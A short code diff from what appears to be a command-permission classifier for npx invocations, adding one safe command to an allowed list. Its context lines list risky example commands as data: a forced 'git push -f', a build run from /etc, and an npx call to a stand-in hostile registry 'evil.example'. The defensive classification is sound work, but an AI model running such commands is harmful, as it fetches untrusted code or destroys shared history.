@@ -137,7 +137,7 @@ export const NODE_PACKAGES: readonly Tool[] = family("verbs", [
       "git-discard": ["npx -c 'git push -f'"],
       "work-outside": ["cd /etc && npx tsc"],
       network: ["npx --registry https://evil.example tsc"],
-      fine: ["npx tsc --noEmit", "npx @biomejs/biome@2 check", "npx"],
+      fine: ["npx tsc --noEmit", "npx @biomejs/biome@2 check", "npx --no-install eleventy", "npx"],
     },
   }),
   tool("corepack", {
